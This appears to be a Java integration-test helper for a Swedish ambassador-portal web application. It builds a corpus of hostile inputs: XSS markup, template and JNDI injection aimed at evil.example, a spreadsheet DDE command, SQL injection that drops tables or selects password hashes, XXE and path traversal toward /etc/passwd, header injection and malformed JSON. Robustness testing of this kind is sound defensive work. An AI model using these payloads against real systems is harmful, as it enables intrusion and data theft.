package se.ambassadorsportalen.it;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

/**
 * The hostile-input corpus: strings a careless or malicious caller sends (script and markup,
 * template and EL expressions, SQL and JPQL, control characters and NUL, bidirectional and
 * combining Unicode, path traversal, oversize text, impossible dates, huge numbers), and whole
 * bodies of the wrong shape (wrong JSON types, deep nesting, huge numbers, broken encodings).
 * Built from a few hundred seeds and their common disguises, so it holds well over 500 entries.
 */
final class HostilePayloads {

    /** The flag a script payload sets if it ever runs in a browser. */
    static final String FLAG = "__hostile";

    private static final List<String> SEEDS = List.of(
            // script and markup
            "<script>window." + FLAG + "=1</script>",
            "<img src=x onerror=\"window." + FLAG + "=1\">",
            "<svg onload=window." + FLAG + "=1>",
            "\"><script>window." + FLAG + "=1</script>",
            "'><img src=x onerror=window." + FLAG + "=1>",
            "</textarea><script>window." + FLAG + "=1</script>",
            "</script><script>window." + FLAG + "=1</script>",
            "<iframe src=\"javascript:window." + FLAG + "=1\"></iframe>",
            "javascript:window." + FLAG + "=1",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "vbscript:msgbox(1)",
            "[klicka](javascript:window." + FLAG + "=1)",
            "[klicka](data:text/html,<script>alert(1)</script>)",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<body onload=alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "\" onmouseover=\"alert(1)",
            "' onfocus='alert(1)' autofocus='",
            "<style>*{background:url(javascript:alert(1))}</style>",
            "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
            "<base href=\"https://evil.example/\">",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
            "<!--<script>alert(1)//-->",
            "<![CDATA[<script>alert(1)</script>]]>",
            "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
            // template, EL and formula
            "#{1+1}",
            "${1+1}",
            "#{facesContext.externalContext.sessionMap}",
            "${applicationScope}",
            "#{request.getSession().invalidate()}",
            "{{7*7}}",
            "{{constructor.constructor('alert(1)')()}}",
            "<%= 7*7 %>",
            "${jndi:ldap://evil.example/a}",
            "=cmd|' /C calc'!A0",
            "+SUM(1,1)",
            "-2+3",
            "@SUM(1)",
            "=HYPERLINK(\"https://evil.example\",\"x\")",
            // SQL and JPQL
            "' or '1'='1",
            "' or 1=1 --",
            "'; drop table app_user; --",
            "\" or \"\"=\"",
            "1; select * from app_user",
            "' union select username, password_hash from app_user --",
            "%' and '%'='",
            "_",
            "%",
            "\\",
            "x' escape '\\",
            "select u from UserAccount u",
            "') or true or ('",
            "1) or (1=1",
            "' || (select 1) || '",
            // control characters and NUL
            "a\u0000b",
            "\u0000",
            "\u0000\u0000\u0000",
            "line\r\nX-Injected: yes",
            "tab\tand\u000bvertical\u000cfeed",
            "\u0007\u0008\u001b[31mred",
            "\u007f\u0080\u009f",
            "\r\n\r\n<html>",
            "%00",
            "..%00.jpg",
            // Unicode: bidirectional overrides, combining marks, odd forms
            "\u202eexe.txt",
            "\u202dabc\u202c",
            "\u2066isolate\u2069",
            "\u200b\u200c\u200d\ufeff",
            "Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358\u0359\u035a\u035b\u035c\u035d\u035e\u035f\u0360",
            "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
            "\ud83d\ude00\ud83d\udc69\u200d\ud83d\udcbb",
            "\ud800",
            "\udfff",
            "\ufffd\ufffe\uffff",
            "ﬁ ﬀ Ⅻ ㎏",
            "Å Ä Ö å ä ö",
            "עברית العربية",
            "\u0130\u0131 İstanbul",
            "𝕬𝖒𝖇𝖆𝖘𝖘𝖆𝖉ö𝖗",
            "\u00a0\u2028\u2029",
            // path traversal
            "../../../../etc/passwd",
            "..\\..\\..\\windows\\win.ini",
            "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            "....//....//etc/passwd",
            "/etc/passwd",
            "file:///etc/passwd",
            "C:\\boot.ini",
            "//evil.example/x",
            "\\\\evil.example\\share",
            // numbers and dates as text
            "99999999999999999999999999999999",
            "-99999999999999999999",
            "1e400",
            "-1e400",
            "NaN",
            "Infinity",
            "-0",
            "0x7fffffff",
            "2147483648",
            "9223372036854775808",
            "-9223372036854775809",
            "1.7976931348623157e309",
            "2026-02-30",
            "2026-13-01",
            "0000-00-00",
            "9999-12-31T25:61:61",
            "2026-W54",
            "-2026-01-01",
            "+999999999-12-31",
            "1970-01-01T00:00:00Z[Mars/Olympus]",
            "i går",
            "",
            " ",
            "null",
            "undefined",
            "true",
            "[]",
            "{}");

    private HostilePayloads() {}

    /** Every string payload: the seeds, and each seed disguised (doubled, padded, upper-cased, url-encoded). */
    static List<String> strings() {
        Set<String> all = new LinkedHashSet<>(SEEDS);
        for (String seed : SEEDS) {
            all.add(seed + seed);
            all.add("  " + seed + "  ");
            all.add(seed.toUpperCase(java.util.Locale.ROOT));
            all.add("Text före " + seed + " och efter");
            all.add(java.net.URLEncoder.encode(seed, java.nio.charset.StandardCharsets.UTF_8));
        }
        all.add("x".repeat(256));
        all.add("ö".repeat(4_001));
        all.add("<b>".repeat(10_000));
        all.add("a".repeat(100_001));
        all.add("\u0000".repeat(5_000));
        return new ArrayList<>(all);
    }

    /** Whole JSON bodies of the wrong shape, size or encoding. */
    static List<String> bodies() {
        List<String> bodies = new ArrayList<>(List.of(
                "",
                "null",
                "0",
                "-1",
                "1e400",
                "123456789012345678901234567890",
                "true",
                "\"text\"",
                "[]",
                "[{}]",
                "{\"id\":1e400}",
                "{\"version\":-1}",
                "{\"version\":99999999999999999999}",
                "{\"version\":1.5}",
                "{\"version\":\"1\"}",
                "{\"title\":null,\"name\":null,\"body\":null}",
                "{\"title\":[\"a\"],\"name\":{}}",
                "{\"title\":1,\"name\":true,\"body\":[],\"days\":\"x\"}",
                "{\"at\":\"2026-02-30T10:00\",\"heldOn\":\"2026-13-01\"}",
                "{\"heldOn\":\"0000-00-00\",\"deadline\":\"+999999999-12-31\",\"validFrom\":\"i går\"}",
                "{\"kind\":\"NO_SUCH_KIND\",\"scale\":\"ELEVEN\",\"status\":\"\"}",
                "{\"unitId\":-1,\"personId\":0}",
                "{\"days\":2147483648,\"headcount\":-2147483649,\"target\":1e308,\"baseline\":-1e308}",
                "{\"a\":1,\"a\":2}",
                "{\"__proto__\":{\"admin\":true}}",
                "{\"title\":\"\\u0000\"}",
                "{\"title\":\"\\ud800\"}",
                "\ufeff{\"title\":\"bom\"}",
                "{\"title\":\"unterminated}",
                "{'title':'x'}",
                "{\"title\":\"x\",}",
                "{title:x}",
                "<xml/>",
                "\u0000\u0000",
                "{\"roles\":[\"ADMIN\",\"ADMIN\",null]}"));
        bodies.add("[".repeat(10_000) + "]".repeat(10_000));
        bodies.add("{\"a\":".repeat(5_000) + "1" + "}".repeat(5_000));
        bodies.add("{\"title\":\"" + "x".repeat(1_000_000) + "\"}");
        bodies.add("[" + "1,".repeat(200_000) + "1]");
        return bodies;
    }
}
